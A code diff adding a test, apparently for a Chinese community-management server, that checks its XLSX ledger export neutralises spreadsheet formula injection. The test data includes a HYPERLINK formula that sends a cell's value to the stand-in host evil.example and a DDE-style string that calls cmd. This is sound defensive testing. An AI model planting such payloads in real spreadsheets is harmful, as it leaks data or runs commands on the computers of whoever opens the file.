@@ -223,3 +223,39 @@ def test_a_job_whose_worker_died_stops_polling_and_an_expired_file_says_so(inlin
     db.session.commit()
     reply = staff.get(f"/console/ledgers/jobs/{job_id}/progress", headers={"HX-Request": "true"})
     assert 'data-code="job_interrupted"' in reply.text and "hx-trigger" not in reply.text
+
+
+def test_free_text_that_looks_like_a_formula_is_exported_as_text_and_read_back_as_typed(
+        inline, world, tagged, device_factory, staff_client, tmp_path):
+    from server.console.ledgers.import_file import read_sheet
+    from server.console.ledgers.xlsx_book import cell_text
+
+    name, notes = '=HYPERLINK("http://evil.example/?"&A1,"点击")', "@SUM(1+1)*cmd|'/c calc'!A0"
+    needs = ["-2+3", "+cmd", "＝1+1", "\tTAB"]
+    writer = DirectWriter(db.session, inline.extensions["wangge_clock"])
+    person = db.session.get(Resident, tagged)
+    person.name, person.notes = name, notes
+    writer.put("resident", person)
+    db.session.commit()
+    worker = device_factory("worker")
+    for text in needs:
+        worker.create("visit", {"household_id": world.households[0].id, "visited_at": "2026-04-02T02:00:00Z",
+                                "method": "in_person", "outcome": "normal", "needs": text})
+    assert {r["status"] for r in worker.push()} == {"accepted"}
+    db.session.rollback()
+    staff = staff_client("staff")
+    residents_file = tmp_path / "residents.xlsx"
+    reply = staff.get(f"/console/ledgers/jobs/{export(staff, kind='residents')}/file")
+    residents_file.write_bytes(reply.data)
+    reply.close()
+    visits = download(staff, export(staff, kind="visits", **{"from": "2026-04-01", "to": "2026-04-30"}))[0]
+    residents = load_workbook(residents_file)
+    for book in (residents, visits):
+        cells = [c for ws in book.worksheets for r in ws.iter_rows() for c in r]
+        assert [c.coordinate for c in cells if c.data_type == "f"] == []
+    assert name in column(residents["居民"], "姓名") and notes in column(residents["居民"], "备注")
+    assert sorted(column(visits["走访"], "诉求")) == sorted(needs)
+    # Reading the ledger back for an import gives the text as it was typed.
+    sheet = read_sheet(str(residents_file))
+    at = sheet.headers.index("姓名")
+    assert name in [cell_text(values[at]) for _, values in sheet.rows]
